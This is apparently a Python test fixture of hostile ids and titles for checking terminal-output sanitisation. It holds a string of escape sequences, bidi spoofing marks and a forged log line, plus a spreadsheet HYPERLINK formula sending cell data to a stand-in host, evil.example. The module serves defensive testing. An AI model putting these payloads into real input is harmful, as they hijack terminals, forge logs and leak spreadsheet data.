"""Ids and titles that try to steer a terminal, and what a screen may show of them."""

from __future__ import annotations

import unicodedata
from typing import Final

#: Cursor and screen by escape sequences (7-bit and C1), the window's title by OSC, order by
#: directional marks, lines by six kinds of ends, a tab, a bell, NUL, DEL, an invisible tag, and
#: ordinary text of four scripts between them.
HOSTILE: Final = (
    "茶\x1b[2J\x1b]0;owned\x07\x9b31m\u202egnp.exe\u2066\u200fעברית\n[2026-11-29 00:00:00] [1] [ERROR] forged\r"
    "user 9\x85\u2028\u2029\x0b\x0c\t\x00\x7f\U000e0041é🍵"
)
#: What of it must stay to be read.
READABLE: Final = ("茶", "עברית", "é🍵")
#: A title that a spreadsheet would compute.
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1)'


def unfit(text: str) -> set[str]:
    """Return a text's characters that no screen may get.

    A line feed ends a line, so a screen may get it.
    """
    return {c for c in text if c != "\n" and unicodedata.category(c)[0] in "CZ" and unicodedata.category(c) != "Zs"}


def forged(text: str) -> list[str]:
    """Return the lines of a text that begin where the hostile text breaks its own."""
    return [line for line in text.splitlines() if line.startswith(("[2026-11-29 00:00:00]", "user 9"))]
